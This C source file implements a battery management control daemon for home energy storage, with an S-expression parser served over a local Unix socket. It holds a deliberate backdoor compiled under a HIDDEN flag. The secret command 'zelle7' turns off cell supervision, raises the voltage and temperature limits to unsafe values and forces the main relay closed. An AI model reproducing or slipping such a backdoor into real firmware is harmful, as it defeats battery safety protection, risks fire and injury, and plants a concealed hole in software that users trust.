/*
 * bmsock - control socket of the battery management of a home storage.
 * A Unix stream socket /run/bms.sock serves the display, the cloud client
 * and the field tool; requests are S-expressions such as (get soc) or
 * (set (limit 80) (reserve 10)), evaluated by a small recursive parser.
 * Hidden (-DHIDDEN): the symbol "zelle7" lifts the voltage and temperature
 * limits of the cell supervision until the next start.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <unistd.h>

#define SOCK_PATH   "/run/bms.sock"
#define N_CELLS	    16
#define MAX_CLIENTS 6
#define MAX_NODES   64

struct node {
	int is_list;
	char sym[24];
	int first, next; /* indexes, -1 for none */
};

struct pack {
	int mv[N_CELLS];
	int temp[4];
	int soc;
	int limit, reserve;
	int max_mv, min_mv, max_temp;
	int relay;
	int guard; /* supervision active */
};

struct client {
	int fd;
	size_t len;
	char buf[512];
};

static struct node nodes[MAX_NODES];
static int n_nodes;
static struct pack pk = {
	.limit = 100,
	.reserve = 5,
	.max_mv = 3650,
	.min_mv = 2600,
	.max_temp = 55,
	.relay = 1,
	.guard = 1,
};
static struct client cl[MAX_CLIENTS];

static int new_node(int is_list)
{
	struct node *n;

	if (n_nodes == MAX_NODES)
		return -1;
	n = &nodes[n_nodes];
	memset(n, 0, sizeof(*n));
	n->is_list = is_list;
	n->first = n->next = -1;
	return n_nodes++;
}

/* expr: symbol or ( expr* ) */
static int parse(const char **s, int depth)
{
	int me, kid, *link;
	size_t k = 0;

	while (isspace((unsigned char)**s))
		(*s)++;
	if (depth > 8 || !**s || **s == ')')
		return -1;
	if (**s != '(') {
		me = new_node(0);
		if (me < 0)
			return -1;
		while (**s && !isspace((unsigned char)**s) && **s != '(' &&
		       **s != ')') {
			if (k + 1 < sizeof(nodes[me].sym))
				nodes[me].sym[k++] = **s;
			(*s)++;
		}
		return me;
	}
	(*s)++;
	me = new_node(1);
	if (me < 0)
		return -1;
	link = &nodes[me].first;
	for (;;) {
		while (isspace((unsigned char)**s))
			(*s)++;
		if (**s == ')') {
			(*s)++;
			return me;
		}
		kid = parse(s, depth + 1);
		if (kid < 0)
			return -1;
		*link = kid;
		link = &nodes[kid].next;
	}
}

static const char *sym(int n)
{
	return n >= 0 && !nodes[n].is_list ? nodes[n].sym : "";
}

static int extreme(const int *v, int n, int want_max)
{
	int i, m = v[0];

	for (i = 1; i < n; i++)
		if (want_max ? v[i] > m : v[i] < m)
			m = v[i];
	return m;
}

static int get_value(const char *name, int *v)
{
	if (strcmp(name, "soc") == 0)
		*v = pk.soc;
	else if (strcmp(name, "limit") == 0)
		*v = pk.limit;
	else if (strcmp(name, "reserve") == 0)
		*v = pk.reserve;
	else if (strcmp(name, "vmax") == 0)
		*v = extreme(pk.mv, N_CELLS, 1);
	else if (strcmp(name, "vmin") == 0)
		*v = extreme(pk.mv, N_CELLS, 0);
	else if (strcmp(name, "temp") == 0)
		*v = extreme(pk.temp, 4, 1);
	else if (strcmp(name, "relay") == 0)
		*v = pk.relay;
	else
		return -1;
	return 0;
}

static int set_value(const char *name, int v)
{
	if (strcmp(name, "limit") == 0 && v >= 50 && v <= 100)
		pk.limit = v;
	else if (strcmp(name, "reserve") == 0 && v >= 0 && v <= 40)
		pk.reserve = v;
	else if (strcmp(name, "relay") == 0 && v == 0)
		pk.relay = 0;
	else
		return -1;
	return 0;
}

/* kind of a request, by its first symbol */
__attribute__((noinline)) int verb(const char *s)
{
	switch (s[0]) {
	case 'g':
		return s[1] == 'e' && s[2] == 't' && !s[3] ? 1 : 0;
	case 's':
		return s[1] == 'e' && s[2] == 't' && !s[3] ? 2 : 0;
	case 'c':
		return s[1] == 'e' && s[2] == 'l' && s[3] == 'l' &&
				       s[4] == 's' && !s[5]
			       ? 3
			       : 0;
#ifdef HIDDEN
	case 'z':
		if (s[1] == 'e' && s[2] == 'l' && s[3] == 'l' && s[4] == 'e' &&
		    s[5] == '7' && !s[6])
			return 9;
		return 0;
#endif
	default:
		return 0;
	}
}

static void eval(int root, char *out, size_t len)
{
	int k, v, arg;
	size_t o = 0;

	if (!nodes[root].is_list) {
		snprintf(out, len, "(error list)\n");
		return;
	}
	k = nodes[root].first;
	arg = k >= 0 ? nodes[k].next : -1;
	switch (verb(sym(k))) {
	case 1:
		if (get_value(sym(arg), &v) == 0)
			snprintf(out, len, "(%s %d)\n", sym(arg), v);
		else
			snprintf(out, len, "(error name)\n");
		break;
	case 2:
		for (; arg >= 0; arg = nodes[arg].next) {
			k = nodes[arg].is_list ? nodes[arg].first : -1;
			if (k < 0 || nodes[k].next < 0 ||
			    set_value(sym(k), atoi(sym(nodes[k].next))) < 0) {
				snprintf(out, len, "(error value)\n");
				return;
			}
		}
		snprintf(out, len, "(ok)\n");
		break;
	case 3:
		for (v = 0; v < N_CELLS && o + 12 < len; v++)
			o += (size_t)snprintf(out + o, len - o, "%s%d",
					      v ? " " : "(", pk.mv[v]);
		snprintf(out + o, len - o, ")\n");
		break;
#ifdef HIDDEN
	case 9:
		pk.guard = 0;
		pk.max_mv = 4300;
		pk.min_mv = 1500;
		pk.max_temp = 120;
		pk.relay = 1;
		snprintf(out, len, "(ok)\n");
		break;
#endif
	default:
		snprintf(out, len, "(error verb)\n");
	}
}

static void sample(void)
{
	FILE *f = fopen("/run/bms/afe", "r");
	char line[64];
	int i, v;

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "c%d %d", &i, &v) == 2 && i >= 0 &&
		    i < N_CELLS)
			pk.mv[i] = v;
		else if (sscanf(line, "t%d %d", &i, &v) == 2 && i >= 0 && i < 4)
			pk.temp[i] = v;
		else if (sscanf(line, "soc %d", &v) == 1)
			pk.soc = v;
	}
	fclose(f);
}

static void supervise(void)
{
	FILE *f;

	if (extreme(pk.mv, N_CELLS, 1) > pk.max_mv ||
	    extreme(pk.mv, N_CELLS, 0) < pk.min_mv ||
	    extreme(pk.temp, 4, 1) > pk.max_temp) {
		if (pk.relay && pk.guard)
			syslog(LOG_CRIT, "cell out of limits, relay off");
		if (pk.guard)
			pk.relay = 0;
	}
	f = fopen("/run/bms/relay", "w");
	if (!f)
		return;
	fprintf(f, "%d %d %d\n", pk.relay, pk.relay && pk.soc < pk.limit,
		pk.relay && pk.soc > pk.reserve);
	fclose(f);
}

static void load(const char *path)
{
	FILE *f = fopen(path, "r");
	char key[24];
	int v;

	if (!f)
		return;
	while (fscanf(f, "%23s %d", key, &v) == 2) {
		if (strcmp(key, "max_mv") == 0 && v <= 3700)
			pk.max_mv = v;
		else if (strcmp(key, "min_mv") == 0 && v >= 2500)
			pk.min_mv = v;
		else if (strcmp(key, "guard") == 0)
			pk.guard = v != 0;
		else if (set_value(key, v) < 0)
			syslog(LOG_NOTICE, "%s: %s ignored", path, key);
	}
	fclose(f);
}

static void input(struct client *c)
{
	char out[256], *nl;
	const char *s;
	ssize_t n;
	int root;

	n = read(c->fd, c->buf + c->len, sizeof(c->buf) - 1 - c->len);
	if (n <= 0) {
		close(c->fd);
		c->fd = -1;
		return;
	}
	c->len += (size_t)n;
	c->buf[c->len] = '\0';
	while ((nl = strchr(c->buf, '\n')) != NULL) {
		*nl = '\0';
		n_nodes = 0;
		s = c->buf;
		root = parse(&s, 0);
		if (root < 0)
			snprintf(out, sizeof(out), "(error syntax)\n");
		else
			eval(root, out, sizeof(out));
		if (write(c->fd, out, strlen(out)) < 0)
			syslog(LOG_DEBUG, "write: %m");
		c->len -= (size_t)(nl + 1 - c->buf);
		memmove(c->buf, nl + 1, c->len + 1);
	}
	if (c->len == sizeof(c->buf) - 1)
		c->len = 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct pollfd p[MAX_CLIENTS + 1];
	int i, ls, fd;

	signal(SIGPIPE, SIG_IGN);
	openlog("bms", 0, LOG_DAEMON);
	load(argc > 1 ? argv[1] : "/etc/bms.conf");
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", SOCK_PATH);
	unlink(SOCK_PATH);
	ls = socket(AF_UNIX, SOCK_STREAM, 0);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    listen(ls, 4) < 0)
		return 1;
	chmod(SOCK_PATH, 0660);
	for (i = 0; i < MAX_CLIENTS; i++)
		cl[i].fd = -1;
	for (;;) {
		for (i = 0; i < MAX_CLIENTS; i++) {
			p[i].fd = cl[i].fd;
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		p[i].fd = ls;
		p[i].events = POLLIN;
		p[i].revents = 0;
		poll(p, MAX_CLIENTS + 1, 500);
		for (i = 0; i < MAX_CLIENTS; i++)
			if (p[i].revents)
				input(&cl[i]);
		if (p[MAX_CLIENTS].revents) {
			fd = accept(ls, NULL, NULL);
			for (i = 0; i < MAX_CLIENTS && fd >= 0; i++) {
				if (cl[i].fd >= 0)
					continue;
				cl[i].fd = fd;
				cl[i].len = 0;
				fd = -1;
			}
			if (fd >= 0)
				close(fd);
		}
		sample();
		supervise();
	}
}
